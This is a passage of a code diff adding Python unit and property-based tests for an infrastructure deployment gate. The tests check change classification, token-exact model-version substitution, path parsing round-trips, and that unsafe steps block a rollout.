+    assert result.allowed and not result.has_changes and result.render() == "preview: no changes"
+
+
+def test_a_summary_with_changes_counts_as_changes_even_without_verdicts():
+    engine = EngineEvent.from_json({"sequence": 3, "timestamp": 0, "summaryEvent": {
+        "resourceChanges": {"update": 1}, "PolicyPacks": {"kiln": "0.1.0"}}})
+    result = classify([engine], ROTATION)
+    assert result.has_changes and not result.allowed
+
+
+# ------------------------------------------------------------------------- helpers
+
+
+def test_model_version_substitution_is_token_exact():
+    assert differs_only_by_model("path /opt/models/v5 label=v5", "path /opt/models/v6 label=v6", "v5", "v6")
+    assert not differs_only_by_model("v5 v55 v5.1", "v6 v66 v6.1", "v5", "v6")     # v55 and v5.1 are other tokens
+    assert differs_only_by_model("v5 v55 v5.1", "v6 v55 v5.1", "v5", "v6")
+    assert not differs_only_by_model("a", "b", None, "v6")
+    assert not differs_only_by_model("v5", "v6", "v6", "v6")
+
+
+def test_property_paths_parse_like_the_engine_writes_them():
+    assert parse_path('metadata.labels["kiln.dev/model-version"]') == ("metadata", "labels", "kiln.dev/model-version")
+    assert parse_path("tags[6].value") == ("tags", 6, "value")
+    assert parse_path('["a\\"b"].c[*]') == ('a"b', "c", "*")
+    for bad in ("", "a.", "a[x]", 'a["b', "a]b", "a..b"):
+        with pytest.raises(PathError):
+            parse_path(bad)
+
+
+_segment = st.one_of(st.integers(0, 50), st.text(min_size=1, max_size=12).filter(lambda s: s != "*"))
+
+
+@given(st.lists(_segment, min_size=1, max_size=6).filter(lambda p: isinstance(p[0], str)))
+def test_paths_round_trip_through_the_engines_spelling(path):
+    path = tuple(path)
+    assert parse_path(path_string(path)) == path
+    assert parse_path(format_path(path)) == path
+
+
+SAFE = [lambda: _lt(imageId=NEW_AMI),
+        lambda: _asg({"launchTemplate.version": DiffKind.UPDATE}),
+        lambda: step(OpType.SAME, "aws:eks/cluster:Cluster", "kiln", old={}, new={}),
+        lambda: _pv(OpType.CREATE_REPLACEMENT, "kiln-model-v5", "kiln-model-v6", name="pv-a")]
+UNSAFE = sorted(BLOCKED_CASES)
+
+
+@given(st.lists(st.sampled_from(range(len(SAFE))), max_size=6),
+       st.lists(st.sampled_from(UNSAFE), max_size=2, unique=True))
+def test_any_unsafe_step_blocks_and_only_safe_steps_pass(safe, unsafe):
+    events = [SAFE[i]() for i in safe] + [e for name in unsafe for e in BLOCKED_CASES[name]]
+    result = gate(events)
+    assert result.allowed == (not unsafe)
